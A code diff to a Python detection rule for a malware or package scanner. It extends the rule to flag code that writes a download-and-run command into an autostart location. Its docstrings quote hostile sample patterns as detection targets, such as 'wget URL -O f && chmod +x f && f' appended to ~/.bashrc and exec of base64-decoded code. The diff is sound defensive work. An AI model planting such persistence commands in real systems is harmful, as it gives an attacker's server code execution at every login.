@@ -22,7 +22,9 @@ class Persistence(Rule):
     holds hidden code (``pickle.loads(zlib.decompress(b"..."))``, ``exec(b64decode(...))``), is
     critical: a tool that offers to start with the session writes a launcher, not a payload.
     So is, at any time, one function that downloads something and saves it into an autostart
-    place: what starts with every session is then whatever the server sends.
+    place, or writes there a command that downloads and runs (``wget URL -O f && chmod +x f &&
+    f`` appended to ``~/.bashrc``): what starts with every session is then whatever the server
+    sends.
     """
 
     id = "CW108"
@@ -58,29 +60,36 @@ class Persistence(Rule):
         yield from found or self._fetched_into_autostart(profile)
 
     def _fetched_into_autostart(self, profile: Profile) -> Iterator[Finding]:
-        """One function that fetches something from the network and saves it into an
-        autostart place (``open(join(startup_folder, name), "wb").write(get(url).content)``)."""
+        """One function that writes into an autostart place and fetches something from the
+        network (``open(join(startup_folder, name), "wb").write(get(url).content)``), or writes
+        there a command that downloads and runs (``wget URL -O f && chmod +x f && f``)."""
         everywhere = tuple(Phase)
         places = profile.indicators_of(("persist.autostart",), everywhere)
         if not places:
             return
         fetch = profile.uses_of(("net.download", "net.http.request"), everywhere)
+        commands = profile.indicators_of(("shell.download-exec",), everywhere)
         saving = {u.scope for u in profile.uses_of(("fs.write",), everywhere)} | {
             u.scope for u in fetch if u.capability == "net.download"
         }
-        scopes = {i.scope for i in places} & {u.scope for u in fetch} & saving
+        scopes = (
+            {i.scope for i in places} & saving
+            & ({u.scope for u in fetch} | {i.scope for i in commands})
+        )
         if not scopes:
             return
         places = [i for i in places if i.scope in scopes]
         fetch = [u for u in fetch if u.scope in scopes]
+        commands = [i for i in commands if i.scope in scopes]
+        what = "a command that downloads and runs" if commands and not fetch else "what it downloads"
         yield self.finding(
-            f"Saves what it downloads into {places[0].value[:80]}",
+            f"Saves {what} into {places[0].value[:80]}",
             severity=Severity.CRITICAL,
             confidence=Confidence.MEDIUM,
-            phase=earliest([*places, *fetch]),
-            evidence=evidence_of(profile, [*places, *fetch]),
+            phase=earliest([*places, *fetch, *commands]),
+            evidence=evidence_of(profile, [*places, *commands, *fetch]),
             capabilities={u.capability for u in fetch} | {"fs.write"},
-            indicators={"persist.autostart"},
+            indicators={"persist.autostart", *(i.kind for i in commands)},
         )
 
     def _hidden_script(self, profile: Profile) -> Iterator[Finding]:
